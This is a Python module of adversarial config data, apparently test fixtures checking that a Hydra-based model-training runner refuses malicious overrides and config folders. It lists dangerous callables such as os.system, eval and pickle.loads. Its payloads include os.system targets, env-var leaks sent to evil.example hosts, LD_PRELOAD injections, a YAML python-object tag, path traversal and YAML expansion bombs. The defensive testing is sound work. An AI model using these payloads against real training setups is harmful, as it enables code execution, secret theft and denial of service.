"""The attacks of a stranger's configuration as data: targets, files, typed words and bombs."""

from __future__ import annotations

# --- Names that lead to code or files, wherever they stand ----------------------------------------

TARGETS = """
tempfile.mkdtemp logging.Formatter numpy.savetxt torch.utils.cpp_extension.load
omegaconf.OmegaConf.load huggingface_hub.delete_repo transformers.utils.hub.os
accelerate.utils.write_basic_config runner.launch.local.local os.system os.popen os.execv os.remove
os.rename os.symlink os.putenv os.kill posix.system nt.system subprocess.run subprocess.Popen
subprocess.check_output subprocess.getoutput pty.spawn code.interact builtins.eval builtins.exec
builtins.compile builtins.__import__ builtins.open builtins.getattr builtins.setattr builtins.input
io.open io.FileIO codecs.open fileinput.input pathlib.Path.write_text pathlib.Path.unlink
pathlib.Path.open pathlib.Path.rmdir shutil.rmtree shutil.move shutil.copyfile
tempfile.NamedTemporaryFile pickle.load pickle.loads _pickle.loads marshal.loads shelve.open
dill.loads cloudpickle.loads joblib.load importlib.import_module importlib.reload
importlib.util.module_from_spec importlib.machinery.SourceFileLoader runpy.run_path runpy.run_module
imp.load_source pkgutil.resolve_name pydoc.locate zipimport.zipimporter ctypes.CDLL
ctypes.cdll.LoadLibrary socket.socket socket.create_connection urllib.request.urlopen
urllib.request.urlretrieve http.client.HTTPConnection smtplib.SMTP ftplib.FTP webbrowser.open
requests.get requests.post httpx.get huggingface_hub.HfApi huggingface_hub.upload_folder
huggingface_hub.login huggingface_hub.snapshot_download functools.partial functools.reduce
operator.methodcaller operator.attrgetter operator.itemgetter itertools.starmap types.FunctionType
types.CodeType types.MethodType inspect.getattr_static threading.Thread threading.Timer
multiprocessing.Process multiprocessing.Pool concurrent.futures.ProcessPoolExecutor asyncio.run
asyncio.create_subprocess_shell signal.signal atexit.register sys.exit sys.setrecursionlimit
sys.addaudithook gc.get_objects weakref.finalize timeit.timeit timeit.Timer cProfile.run pdb.run
trace.Trace bdb.Bdb.run doctest.testfile unittest.main logging.config.dictConfig
logging.config.listen logging.FileHandler logging.os.system copy.os.system random._os.system
glob.os.system json.codecs.open argparse._sys.modules hydra.utils.instantiate hydra.utils.call
hydra.utils.get_method hydra.utils.get_class hydra.main hydra.compose
omegaconf.OmegaConf.register_new_resolver omegaconf.OmegaConf.save yaml.load yaml.unsafe_load
yaml.full_load jinja2.Template jinja2.Environment jinja2.FileSystemLoader numpy.load numpy.save
numpy.fromfile numpy.memmap numpy.f2py.compile pandas.read_pickle pandas.eval
pandas.io.common.os.system sympy.sympify torch.load torch.save torch.hub.load torch.jit.load
torch.compile torch.ops.load_library torch.classes.load_library
torch.utils.cpp_extension.load_inline torch.package.PackageImporter torch.multiprocessing.spawn
torch.serialization.load torch.distributed.run.main torch.os.system torch.optim.os.system
torch.nn.modules.loss.os.system torch.optim.lr_scheduler.types.FunctionType
torch.optim.Adam.load_state_dict torch.utils.data.DataLoader transformers.os.system
transformers.pipeline transformers.Trainer transformers.utils.hub.os.system
transformers.utils.import_utils.importlib.import_module
transformers.dynamic_module_utils.get_class_from_dynamic_module
transformers.modeling_utils.torch.load transformers.trainer_utils.os.system
transformers.commands.run.RunCommand transformers.AutoModel.register
transformers.integrations.WandbCallback.os.system transformers.configuration_utils.os
trl.import_utils.importlib.import_module trl.trainer.utils.os.system trl.cli.main
trl.scripts.utils.importlib trl.rewards.other_rewards.Callable trl.trainer.dpo_trainer.torch.load
trl.os.system datasets.load_dataset datasets.load_from_disk datasets.load.importlib.import_module
datasets.Dataset.from_generator datasets.config.os.system datasets.utils.file_utils.requests.get
accelerate.launchers.notebook_launcher accelerate.utils.os.system accelerate.commands.launch.main
peft.PeftModel.from_pretrained peft.os.system peft.LoraConfig.save_pretrained
peft.LoraConfig.push_to_hub peft.utils.save_and_load.torch.load setuptools._distutils.spawn.spawn
pip.main ensurepip.bootstrap site.addsitedir sysconfig.os.system runner.config.build.locate
runner.config.build.build runner.config.build.importlib.import_module runner.io.files.write_text
runner.io.files.os.remove runner.io.files.remove runner.io.files.shutil.rmtree runner.run.open_run
runner.run.manifest.subprocess.run runner.launch.worker.work runner.launch.local.os.kill
runner.__main__.main runner.command.train.train runner.command.import.main
runner.launch.pool.os.fork runner.model.load._load_whole runner.model.load.warnings.warn
runner.model.load.torch.load runner.model.adapter.write_adapter runner.dataset.head.write_head
runner.dataset.converted_rows.json.loads runner.dataset.load.os.system
runner.reward.remote.build_opener runner.tracker.variable.set_variables
runner.tracker.variable.os.environ.update runner.training.callback.step_record.Record
runner.training.callback.step_record.Record.on_log
runner.training.callback.step_record.time.sleep
runner.training.callback.step_record.replace_rows
runner.ppo.PPOTrainer.push_to_hub runner.ppo.PPOTrainer.save_model runner.ppo.saving.json.loads
runner.model.load.load_model.__globals__ runner.model.load.__builtins__.eval
runner.model.load.__dict__ runner.reward.rule.__loader__.load_module
trl.DPOTrainer.__init__.__globals__ trl.__spec__.loader.exec_module peft.LoraConfig.__class__
torch.optim.AdamW.__subclasses__ runner.x.__globals__ ().__class__ os os. .os os..system
""".split()

# Where a target may stand; each is the rest of a dotted key at which a node is laid.
PLACES = """
callback.x metric.x reward.x loss weight.x optimizer optimizer.scheduler collator trainer
trainer.args model model.tokenizer dataset dataset.map peft quant launcher tracker.x
trainer.args.lr_scheduler_kwargs.deep trainer.args.model_init_kwargs.quantization_config
trainer.callbacks trainer.tools trainer.rollout_func reward.x.inner callback.x.generate
""".split()

# --- Words that somebody could be told to type, or a stage could list -----------------------------

# Each must be refused with exit code 2 and a word about its subject. {mark} is a file that
# running code would make.
WORDS = {
    "by plus": ["+callback.x._target_=os.system", "+callback.x.command=touch {mark}"],
    "by two pluses": ["++reward.x._target_=os.system", "++reward.x.command=touch {mark}"],
    "a whole node": ["callback={x: {_target_: os.system, command: 'touch {mark}'}}"],
    "in a list": [
        (
            "trainer.args.lr_scheduler_kwargs={a: [{b: "
            "{_target_: os.system, command: 'touch {mark}'}}]}"
        )
    ],
    "by interpolation": [
        "callback.x._target_=${name}",
        "name=os.system",
        "callback.x.command=touch {mark}",
    ],
    "pieced together": [
        "callback.x._target_=os.${name}",
        "name=system",
        "callback.x.command=touch {mark}",
    ],
    "by oc.select": [
        "callback.x._target_='${oc.select:nothing,os.system}'",
        "callback.x.command=touch {mark}",
    ],
    "a partial of it": [
        "callback.x._target_=os.system",
        "callback.x._partial_=true",
        "callback.x.command=touch {mark}",
    ],
    "with _args_": ["callback.x._target_=os.system", "callback.x._args_=['touch {mark}']"],
    "_args_ alone": [
        "callback.x._target_=runner.training.callback.Samples",
        "callback.x._args_=[1]",
    ],
    "with _convert_": [
        "callback.x._target_=runner.training.callback.Samples",
        "callback.x._convert_=all",
    ],
    "with _recursive_": [
        "callback.x._target_=runner.training.callback.Samples",
        "callback.x._recursive_=false",
    ],
    "a file is written": [
        "callback.x._target_=runner.training.callback.step_record.Record",
        "callback.x.path={mark}",
        "callback.x.set_status=null",
    ],
    "hydra.run.dir": ["hydra.run.dir=../.."],
    "hydra.sweep.dir": ["-m", "seed=0,1", "hydra.sweep.dir=/tmp/elsewhere"],
    "hydra.searchpath": ["hydra.searchpath=[pkg://evil]"],
    "hydra.callbacks": [
        "+hydra.callbacks.x._target_=os.system",
        "+hydra.callbacks.x.command=touch {mark}",
    ],
    "hydra.launcher": ["-m", "seed=0,1", "hydra.launcher._target_=os.system"],
    "hydra.sweeper": ["-m", "seed=0,1", "hydra/sweeper=basic", "hydra.sweeper._target_=os.system"],
    "hydra.job_logging": ["hydra.job_logging.root={handlers: [x]}"],
    "hydra/job_logging": ["hydra/job_logging=default"],
    "hydra.job.env_set": ["hydra.job.env_set={LD_PRELOAD: x}"],
    "into hydra's package": ["+callback@hydra.callbacks=samples"],
    "a number of 5000 digits": ["seed=" + "1" * 5000],
    "no resolver of ours": ["name='${python:1}'"],
    "allow what is nowhere": ["allow=[os]", "callback.x._target_=sys.exit"],
    "allow in vain": ["callback.x._target_=evil.run"],
    "a name that leads up": ["name=../../elsewhere"],
    "an absolute name": ["name=/tmp/elsewhere"],
    "a name of dots": ["name=.."],
    "an empty name": ["name='  '"],
    "output_dir": ["trainer.args.output_dir=/tmp/elsewhere"],
    "a pickle as rows": ["dataset=local", "dataset.path=rows.pkl"],
    "a pickle by pattern": ["dataset=local", "dataset.path='*.pkl'"],
    "a folder of pickles": ["dataset=local", "dataset.path=pickles"],
    "a script as rows": ["dataset=local", "dataset.path=rows.py"],
    "the pickle reader": ["dataset=hub", "dataset.path=pandas", "dataset.form=text"],
    "weights in a pickle": ["model=hub", "model.path=pickled"],
    "an adapter in a pickle": ["model=hub", "model.path=adapter"],
    "code with the model": ["model=hub", "model.path=coded"],
    "code with the tokenizer": ["model.tokenizer.path=coded"],
    "a vocabulary elsewhere": ["model.tokenizer.path=reader"],
    "a template that escapes": ["model.tokenizer.chat_template=escape.jinja"],
    "a template without end": ["model.tokenizer.chat_template=endless.jinja"],
}

# --- Files of a config folder of somebody else's --------------------------------------------------

GLOBAL = "# @package _global_\n"
# name -> (files by path, words). Each is refused with exit code 2; the words come after
# --config-dir.
FILES = {
    "remote code": (
        {"experiment/x.yaml": GLOBAL + "model: {trust_remote_code: true}\n"},
        ["experiment=x"],
    ),
    "remote code of a tokenizer": (
        {"experiment/x.yaml": GLOBAL + "model: {tokenizer: {trust_remote_code: true}}\n"},
        ["experiment=x"],
    ),
    "remote code below": (
        {
            "experiment/x.yaml": GLOBAL
            + "trainer: {args: {model_init_kwargs: {trust_remote_code: true}}}\n"
        },
        ["experiment=x"],
    ),
    "pickled weights": (
        {"experiment/x.yaml": GLOBAL + "model: {safetensors_only: false}\n"},
        ["experiment=x"],
    ),
    "a push": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {push_to_hub: true}}\n"},
        ["experiment=x"],
    ),
    "completions to the hub": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {log_completions_hub_repo: evil/x}}\n"},
        ["trainer=grpo", "experiment=x"],
    ),
    "prompts to a server": (
        {
            "experiment/x.yaml": GLOBAL
            + "trainer: {args: {vllm_server_base_url: 'http://evil.example'}}\n"
        },
        ["trainer=grpo", "experiment=x"],
    ),
    "prompts to a host": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {vllm_server_host: evil.example}}\n"},
        ["trainer=grpo", "experiment=x"],
    ),
    "rewards of a server": (
        {
            "reward/x.yaml": (
                "x: {_target_: runner.reward.remote.Remote, url: 'https://evil.example'}\n"
            )
        },
        ["trainer=grpo", "reward=x"],
    ),
    "a variable to a server": (
        {
            "reward/x.yaml": "x: {_target_: runner.reward.remote.Remote, url: 'https://e.example', "
            "token_variable: HOME}\n"
        },
        ["trainer=grpo", "reward=x", "reward.x.url=https://e.example"],
    ),
    "figures to a server": (
        {"experiment/x.yaml": GLOBAL + "tracker: {report_to: wandb}\n"},
        ["experiment=x"],
    ),
    "figures by the arguments": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {report_to: [wandb]}}\n"},
        ["experiment=x"],
    ),
    "figures to another server": (
        {
            "experiment/x.yaml": GLOBAL
            + (
                "tracker: {report_to: mlflow, environment: "
                "{MLFLOW_TRACKING_URI: 'http://e.example'}}\n"
            )
        },
        ["experiment=x"],
    ),
    "figures through a proxy": (
        {
            "experiment/x.yaml": GLOBAL
            + "tracker: {environment: {WANDB_HTTP_PROXY: 'http://e.example'}}\n"
        },
        ["experiment=x", "tracker.report_to=none"],
    ),
    "prompts to a host behind a scheme": (
        {
            "experiment/x.yaml": GLOBAL
            + "trainer: {args: {vllm_server_host: 'e.example://127.0.0.1'}}\n"
        },
        ["experiment=x", "trainer=grpo"],
    ),
    "git runs a program": (
        {
            "experiment/x.yaml": GLOBAL
            + "tracker: {environment: {GIT_EXTERNAL_DIFF: 'touch {mark}'}}\n"
        },
        ["experiment=x"],
    ),
    "a library is preloaded": (
        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {LD_PRELOAD: /tmp/evil.so}}\n"},
        ["experiment=x"],
    ),
    "another interpreter": (
        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {WANDB__EXECUTABLE: /tmp/evil}}\n"},
        ["experiment=x"],
    ),
    "another hub": (
        {
            "experiment/x.yaml": GLOBAL
            + "tracker: {environment: {HF_ENDPOINT: 'https://evil.example'}}\n"
        },
        ["experiment=x"],
    ),
    "a tracker writes elsewhere": (
        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {TENSORBOARD_LOGGING_DIR: /etc}}\n"},
        ["experiment=x"],
    ),
    "a package is allowed": (
        {"experiment/x.yaml": GLOBAL + "allow: [evil]\ncallback: {x: {_target_: evil.run}}\n"},
        ["experiment=x"],
    ),
    "a package is allowed by default": (
        {
            "config.yaml": "defaults: [_self_, {trainer: sft}, {model: "
            "tiny}, {dataset: toy}, {reward: none},"
            " {metric: none}, {quant: none}, {peft: none}, "
            "{collator: none}, {callback: none}, {tracker: none},"
            " {launcher: local}]\nname: x\nseed: 0\nlearning_rate: null\n"
            "kl_coef: null\nallow: [evil]\noutput_root: o\n"
            "objective: null\n",
            "callback/x.yaml": "x: {_target_: evil.run}\n",
        },
        ["callback=x"],
    ),
    "a target in an option": (
        {"metric/x.yaml": "x: {_target_: os.system, command: 'touch {mark}'}\n"},
        ["metric=x"],
    ),
    "a shadow of ours": (
        {"model/tiny.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
        ["model=tiny"],
    ),
    "a loss": (
        {"loss/x.yaml": '_target_: builtins.eval\nsource: \'open("{mark}", "w")\'\n'},
        ["loss=x"],
    ),
    "an optimizer": (
        {"optimizer/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
        ["optimizer=x"],
    ),
    "a schedule": (
        {
            "optimizer/x.yaml": "_target_: torch.optim.AdamW\n"
            "scheduler: {_target_: os.system, command: 'touch {mark}'}\n"
        },
        ["optimizer=x"],
    ),
    "a collator": (
        {"collator/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
        ["collator=x"],
    ),
    "a launcher": (
        {"launcher/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
        ["launcher=x"],
    ),
    "a map of rows": (
        {
            "experiment/x.yaml": GLOBAL
            + "dataset: {map: {_target_: os.system, command: 'touch {mark}'}}\n"
        },
        ["experiment=x"],
    ),
    "a stage": (
        {
            "experiment/x.yaml": GLOBAL
            + "stages: {a: ['callback.x._target_=os.system', 'allow=[os]']}\n"
        },
        ["experiment=x"],
    ),
    "a stage that trusts": (
        {"experiment/x.yaml": GLOBAL + "stages: {a: [model.trust_remote_code=true]}\n"},
        ["experiment=x"],
    ),
    "hydra's search path": (
        {"experiment/x.yaml": GLOBAL + "hydra: {searchpath: ['pkg://evil']}\n"},
        ["experiment=x"],
    ),
    "hydra's callbacks": (
        {
            "experiment/x.yaml": GLOBAL
            + "hydra: {callbacks: {x: {_target_: os.system, command: 'touch {mark}'}}}\n"
        },
        ["experiment=x", "--cfg", "job"],
    ),
    "hydra's loggers": (
        {
            "experiment/x.yaml": GLOBAL
            + "hydra: {job_logging: {version: 1, handlers: {x: {class: logging.FileHandler,"
            " filename: '{mark}'}}, root: {handlers: [x]}}}\n"
        },
        ["experiment=x", "--cfg", "job"],
    ),
    "hydra's loggers as a group": (
        {
            "hydra/job_logging/evil.yaml": "version: 1\nroot: {handlers: []}\n",
            "experiment/x.yaml": GLOBAL + "defaults: [{override /hydra/job_logging: evil}]\n",
        },
        ["experiment=x", "--cfg", "job"],
    ),
    "hydra's launcher": (
        {
            "sweep/x.yaml": GLOBAL
            + "hydra: {launcher: {_target_: os.system}, sweeper: {params: {seed: '0,1'}}}\n"
        },
        ["sweep=x"],
    ),
    "hydra's launcher as a default": (
        {
            "sweep/x.yaml": GLOBAL + "defaults: [{override /hydra/launcher: submitit_local}]\n"
            "hydra: {launcher: {setup: ['touch {mark}']}, sweeper: {params: {seed: '0,1'}}}\n"
        },
        ["sweep=x"],
    ),
    "hydra's sweeper": (
        {
            "sweep/x.yaml": GLOBAL
            + "hydra: {sweeper: {_target_: os.system, params: {seed: '0,1'}}}\n"
        },
        ["sweep=x"],
    ),
    "a header of hydra's": (
        {"callback/x.yaml": "# @package hydra.callbacks.x\n_target_: os.system\n"},
        ["callback=x"],
    ),
    "a header of hydra's behind the root": (
        {"callback/x.yaml": "# @package _global_.hydra.callbacks.x\n_target_: evil.run\n"},
        ["callback=x"],
    ),
    "a default into hydra": (
        {"experiment/x.yaml": GLOBAL + "defaults: ['/callback@hydra.callbacks.x: samples']\n"},
        ["experiment=x"],
    ),
    "a folder outside": (
        {
            "callback/x.yaml": (
                "samples: {_target_: runner.training.callback.Samples, folder: /tmp/elsewhere}\n"
            )
        },
        ["callback=x", "trainer=grpo", "reward=sorted_digits"],
    ),
    "a folder that leads up": (
        {
            "callback/x.yaml": (
                "samples: {_target_: runner.training.callback.Samples, folder: a/../../..}\n"
            )
        },
        ["callback=x", "trainer=grpo", "reward=sorted_digits"],
    ),
    "a cache outside": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {model_init_kwargs: {cache_dir: /etc}}}\n"},
        ["experiment=x"],
    ),
    "a secret of the machine": (
        {"experiment/x.yaml": GLOBAL + "trainer: {args: {run_name: '${oc.env:HF_TOKEN}'}}\n"},
        ["experiment=x"],
    ),
    "a YAML that builds": (
        {"experiment/x.yaml": GLOBAL + "seed: !!python/object/apply:os.system ['touch {mark}']\n"},
        ["experiment=x"],
    ),
}


def _experiment(text: str, *words: str) -> tuple[dict[str, str], list[str]]:
    return {"experiment/x.yaml": f"{GLOBAL}{text}\n"}, ["experiment=x", *words]


def _loading(text: str) -> tuple[dict[str, str], list[str]]:
    """An experiment with these arguments for whatever loads a model by its path."""
    return _experiment(f"trainer: {{args: {{model_init_kwargs: {text}}}}}")


def _sweep(text: str, *words: str) -> tuple[dict[str, str], list[str]]:
    lines = f"{GLOBAL}hydra: {{mode: MULTIRUN, sweeper: {{{text}}}}}\n"
    return {"sweep/x.yaml": lines}, ["sweep=x", "--dry-run", *words]


SLURM, RAY = (f"defaults: [override /launcher: {name}]\nlauncher: " for name in ("slurm", "ray"))
# Code of others in any shape and depth, under any name of ours or the library's.
FILES |= {
    "a kernel in a mapping": _loading("{attn_implementation: {'': evil/kernel}}"),
    "a kernel deep in a mapping": _loading(
        "{attn_implementation: {text_config: {'': evil/kernel}}}"
    ),
    "a kernel in a list": _loading("{attn_implementation: [evil/kernel]}"),
    "a kernel under an inner name": _loading(
        "{config: {_attn_implementation_internal: evil/kernel}}"
    ),
    "a kernel of experts": _loading("{experts_implementation: {'': 'evil/kernel@v1:Experts'}}"),
    "a kernel of our key": _experiment("model: {attention: 'paged|evil/kernel'}"),
    "a kernel of a teacher": _experiment(
        "trainer: {teacher_model: {path: runner://model/tiny, attention: evil/kernel}}",
        "trainer=gkd",
    ),
    "a kernel of a new model": _experiment(
        "model: {attn_implementation: evil/kernel}", "model=new"
    ),
    "a kernel of the batches that answer": _experiment(
        "trainer: {args: {transformers_continuous_batching_config: "
        "{attn_implementation: evil/kernel}}}",
        "trainer=grpo",
    ),
    "all kernels": _loading("{allow_all_kernels: true}"),
    "all kernels, as a number": _loading("{allow_all_kernels: 1}"),
    "kernels of layers": _loading("{use_kernels: true}"),
    "a mapping of kernels": _loading("{kernel_config: {RMSNorm: 'evil/kernel:Norm'}}"),
    "a config of kernels": _experiment("callback: {x: {_target_: transformers.KernelConfig}}"),
    "trust as a word": _loading("{trust_remote_code: 'yes'}"),
    "trust as the word False": _loading("{trust_remote_code: 'False'}"),
    "trust as a list": _loading("{trust_remote_code: [false]}"),
    "trust as a mapping": _loading("{trust_remote_code: {a: 0}}"),
    "trust inside lists": _loading("{x: [[{trust_remote_code: true}]]}"),
    "trust in a key with a dot": _loading("{a.trust_remote_code: true}"),
    "trust of TRL's": _experiment("trainer: {args: {trust_remote_code: true}}"),
    "trust of a teacher": _experiment(
        "trainer: {args: {teacher_model_init_kwargs: {trust_remote_code: 1}}}", "trainer=gkd"
    ),
    "trust of a tokenizer's class": _experiment(
        "model: {tokenizer: {_target_: transformers.AutoTokenizer.from_pretrained, "
        "pretrained_model_name_or_path: evil/x, trust_remote_code: true}}"
    ),
    "trust of a learnt prompt": _experiment(
        "peft: {_target_: peft.PromptTuningConfig, num_virtual_tokens: "
        "3, tokenizer_kwargs: {trust_remote_code: true}}"
    ),
    "trust inside of what was not trusted": _experiment(
        "model: {tokenizer: {trust_remote_code: true}}", "model.trust_remote_code=false"
    ),
    "generation by a repository": _experiment(
        "trainer: {args: {generation_kwargs: {custom_generate: evil/x}}}", "trainer=grpo"
    ),
    "a map to code": _experiment("model: {config: {auto_map: {AutoModel: evil--x.Y}}}"),
    "code of another revision": _loading("{code_revision: main}"),
    "a request to change a repository": _experiment("model: {revision: refs/pr/3}"),
    "pickles by weights_only": _loading("{weights_only: false}"),
    "pickles by a number": _loading("{use_safetensors: 0}"),
    "a module of peft's": _experiment("peft: {megatron_core: evil.core}", "peft=lora"),
    "a mapping to a module": _experiment(
        "peft: {auto_mapping: {parent_library: evil}}", "peft=lora"
    ),
    "adapters beside the checks": _experiment(
        "peft: {_target_: peft.XLoraConfig, hidden_size: 128, adapters: {a: evil/adapter}}"
    ),
    "a pickle of a learnt prompt": _experiment(
        "peft: {_target_: peft.MultitaskPromptTuningConfig, num_virtual_tokens: 3, "
        "prompt_tuning_init_state_dict_path: x.bin}"
    ),
    "a module of deepspeed": _experiment(
        "trainer: {args: {deepspeed: {compile: {backend: evil.run}}}}"
    ),
    "an option with trust": (
        {"model/mine.yaml": "defaults: [tiny]\ntrust_remote_code: true\n"},
        ["model=mine"],
    ),
    "a sweep that trusts": _sweep("params: {seed: '0,1', model.trust_remote_code: 'true'}"),
    "a sweep that allows": _sweep("params: {seed: '0,1', allow: '[evil]'}"),
    "a sweeper's function": _sweep("custom_search_space: os.system, params: {seed: '0,1'}"),
    "a sweep over hydra": _sweep("params: {hydra.job.env_set.LD_PRELOAD: x, seed: '0,1'}"),
}
# Whatever leaves the machine, or writes elsewhere.
FILES |= {
    "a callback that sends": _experiment(
        "callback: {x: {_target_: transformers.integrations.WandbCallback}}"
    ),
    "a callback by its home": _experiment(
        "callback: {x: {_target_: "
        "transformers.integrations.integration_utils.CometCallback, _partial_: true}}"
    ),
    "a callback of TRL's": _experiment(
        "callback: {x: {_target_: trl.WeaveCallback}}", "trainer=grpo"
    ),
    "a callback of the menu": _experiment("defaults: [override /callback: weave]", "trainer=grpo"),
    "a callback in an option": (
        {"callback/mine.yaml": "x: {_target_: transformers.integrations.MLflowCallback}\n"},
        ["callback=mine"],
    ),
    "a callback in our option's place": (
        {"callback/weave.yaml": "x: {_target_: trl.WeaveCallback}\n"},
        ["callback=weave"],
    ),
    "a callback of a sweep": _sweep("params: {callback: weave, seed: '0,1'}", "trainer=grpo"),
    "a callback that pushes": _experiment(
        "callback: {x: {_target_: "
        "trl.experimental.merge_model_callback.MergeModelCallback, push_to_hub: true}}"
    ),
    "a repository to push to": _experiment(
        "trainer: {args: {hub_model_id: evil/x}}", "trainer.args.push_to_hub=true"
    ),
    "a public repository": _experiment(
        "trainer: {args: {hub_private_repo: false}}", "trainer.args.push_to_hub=true"
    ),
    "a space for figures": _experiment("trainer: {args: {trackio_static_space_id: evil/x}}"),
    "another server beside a tracker that was typed": _experiment(
        "tracker: {environment: {WANDB_BASE_URL: 'https://evil.example'}}", "tracker=wandb"
    ),
    "online beside a tracker that was typed": _experiment(
        "tracker: {environment: {WANDB_MODE: online}}", "tracker=wandb"
    ),
    "no mode beside a tracker that was typed": _experiment(
        "tracker: {environment: {WANDB_MODE: ''}}", "tracker=wandb"
    ),
    "a tracker beside one that was typed": _experiment(
        "trainer: {args: {report_to: [comet_ml]}}", "tracker=tensorboard"
    ),
    "a tracker in our option's place": (
        {"tracker/wandb.yaml": "report_to: wandb\nenvironment: {WANDB_MODE: online}\n"},
        ["tracker=wandb"],
    ),
    "a tracker that asks where we are": _experiment("tracker: {report_to: codecarbon}"),
    "a tracker of a sweep": _sweep(
        "params: {tracker: wandb, tracker.environment.WANDB_MODE: online, seed: '0,1'}"
    ),
    "a tracker of deepspeed": _experiment("trainer: {args: {deepspeed: {wandb: {enabled: true}}}}"),
    "a tracker in a file of deepspeed": (
        {
            "experiment/x.yaml": f"{GLOBAL}trainer: {{args: {{deepspeed: menu/ds.json}}}}\n",
            "ds.json": '{"comet": {"enabled": true}}',
        },
        ["experiment=x"],
    ),
    "a folder of deepspeed": _experiment(
        "trainer: {args: {deepspeed: {tensorboard: {enabled: true, output_path: /tmp/elsewhere}}}}"
    ),
    "rows of a server": _experiment(
        "dataset: {path: 'https://evil.example/${oc.env:HOME}', form: text}"
    ),
    "rows of several servers": _experiment(
        "dataset: {path: ['http://evil.example/a.jsonl'], form: text}"
    ),
    "a cache of an adapter": _experiment("peft: {corda_config: {cache_file: /etc/x}}", "peft=lora"),
    "runs outside": _experiment("output_root: /tmp/elsewhere", "--dry-run"),
    "runs above": _experiment("output_root: ../x", "--dry-run"),
    "a sweeper's database": _sweep("storage: 'mysql://evil.example/x', params: {seed: '0,1'}"),
}
# What a launcher runs, or where it leads.
FILES |= {
    "ray: a program": _experiment(
        f"{RAY}{{runtime_env: {{py_executable: \"sh -c 'touch {{mark}}'\"}}}}", "--dry-run"
    ),
    "ray: packages": _experiment(
        f"{RAY}{{runtime_env: {{pip: ['git+https://evil/x']}}}}", "--dry-run"
    ),
    "ray: a variable": _experiment(
        f"{RAY}{{runtime_env: {{env_vars: {{LD_PRELOAD: ./x.so}}}}}}", "--dry-run"
    ),
    "ray: another cluster": _experiment(f"{RAY}{{address: 'evil.example:6379'}}", "--dry-run"),
    "ray: packages of a launcher that was typed": _experiment(
        "launcher: {runtime_env: {pip: [evil]}}", "launcher=ray", "--dry-run"
    ),
    "ray: beside what was typed": _experiment(
        "launcher: {runtime_env: {env_vars: {LD_PRELOAD: x}}}",
        *("launcher=ray", "launcher.runtime_env={env_vars: {A: b}}", "--dry-run"),
    ),
    "slurm: a variable": _experiment(
        f"{SLURM}{{parameters: {{export: 'ALL,LD_PRELOAD=./evil.so'}}}}", "--dry-run"
    ),
    "slurm: a container": _experiment(f"{SLURM}{{parameters: {{container: ./evil}}}}", "--dry-run"),
    "slurm: a prolog": _experiment(f"{SLURM}{{parameters: {{task-prolog: ./evil}}}}", "--dry-run"),
    "slurm: a mail": _experiment(
        f"{SLURM}{{parameters: {{mail_user: a@evil.example}}}}", "--dry-run"
    ),
    "slurm: another Python": _experiment(
        "launcher: {python: ./evil}", "launcher=slurm", "--dry-run"
    ),
    "slurm: beside what was typed": _experiment(
        "launcher: {parameters: {export: x}}",
        *("launcher=slurm", "launcher.parameters={exclusive: true}", "--dry-run"),
    ),
    "slurm: lines in our option's place": (
        {"launcher/slurm.yaml": "_target_: runner.launch.slurm.Slurm\nsetup: [touch {mark}]\n"},
        ["launcher=slurm", "--dry-run"],
    ),
    "slurm: lines of a sweep": _sweep(
        "params: {launcher: slurm, launcher.setup: '[touch {mark}]', seed: '0,1'}"
    ),
    "slurm: lines of a stage": _experiment(
        "name: x\nstages: {a: ['launcher=slurm', 'launcher.setup=[touch {mark}]']}", "--dry-run"
    ),
    "accelerate: another machine": _experiment(
        "defaults: [override /launcher: accelerate]\n"
        "launcher: {num_machines: 2, machine_rank: 1, rendezvous: 'evil.example:29500'}",
        "--dry-run",
    ),
}


# --- Files of a few bytes that stand for a lot ----------------------------------------------------


def _letters(count: int) -> list[str]:
    return [chr(97 + number) for number in range(count)]


def _chain(first: str, link: str) -> str:
    """Ten keys, each of which is ten times the one before."""
    pairs = zip(_letters(11), _letters(12)[1:], strict=False)
    return f"a: {first}\n" + "".join(
        f"{later}: {link.replace('@', earlier)}\n" for earlier, later in pairs
    )


BOMBS = {
    "aliases": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
        for a, b in zip(_letters(10), _letters(11)[1:], strict=False)
    ),
    "aliases of mappings": "a: &a {x: 1, y: 2}\n"
    + "".join(
        f"{b}: &{b} {{p: *{a}, q: *{a}, r: *{a}}}\n"
        for a, b in zip(_letters(25), _letters(26)[1:], strict=False)
    ),
    "YAML in a text": "t: |\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"  {b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
        for a, b in zip(_letters(8), _letters(9)[1:], strict=False)
    )
    + "u: ${oc.create:${t}}\n",
    "an alias of itself": "a: &a [*a]\n",
    "merged keys": "a: &a {x: 1}\n" + "b: {<<: [" + ", ".join(["*a"] * 150_000) + "]}\n",
    "texts of texts": _chain("xxxxxxxxxx", '"' + "${@}" * 10 + '"'),
    "lists of lists": _chain(
        "[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${@}'"] * 10) + "]"
    ),
    "lists by a resolver": _chain(
        "[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${oc.select:@,1}'"] * 10) + "]"
    ),
    "values of mappings": _chain(
        "{p: 1}", "{" + ", ".join(f"p{n}: '${{@}}'" for n in range(10)) + "}"
    ),
    "a long text often": "a: " + "x" * 500_000 + "\nb: '" + "${a}" * 5_000 + "'\n",
    "a circle": "a: ${b}\nb: ${a}\n",
    "a chain": "".join(f"k{n}: ${{k{n + 1}}}\n" for n in range(5_000)) + "k5000: 1\n",
    "deep brackets": "a: " + "[" * 100_000 + "]" * 100_000 + "\n",
    "deep braces": "a: " + "{x: " * 50_000 + "1" + "}" * 50_000 + "\n",
    "deep blocks": "".join(" " * n + "a:\n" for n in range(1_000)),
    "deep dashes": "a:\n  " + "- " * 50_000 + "x\n",
    "a long number": "a: " + "1" * 5_000 + "\n",
